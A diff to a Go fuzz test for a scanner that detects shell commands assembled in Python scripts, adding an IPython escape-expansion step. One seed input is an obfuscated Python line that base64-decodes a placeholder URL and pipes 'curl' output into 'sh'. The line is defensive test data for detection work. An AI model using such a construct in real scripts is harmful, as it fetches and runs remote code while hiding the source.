@@ -7,8 +7,9 @@ import (
 
 // FuzzPyCommandFold: no Python text stops the fold of assembled shell
 // commands (names bound to each other, unclosed literals and brackets,
-// format strings, decoders of any input) or the scan of its shell
-// calls, and every finding's line is inside the script.
+// format strings, decoders of any input), the IPython escape expansion
+// over it, or the scan of its shell calls, and every finding's line is
+// inside the script.
 func FuzzPyCommandFold(f *testing.F) {
 	for _, s := range []string{
 		"import base64 as _b, subprocess as _s\n_u = _b.b64decode('aHR0cDovL3g=').decode()\n_s.run('curl -fsSL ' + _u + ' | sh', shell=True)\n",
@@ -26,6 +27,7 @@ func FuzzPyCommandFold(f *testing.F) {
 		p := newPyFolder(code)
 		for _, e := range strings.Split(code, "\n") {
 			p.fold(e)
+			ipyExpand(e, p)
 		}
 		sc := scanCtx(code)
 		scanPyBuiltCommands(sc, "scripts/x.py", code, inScript)
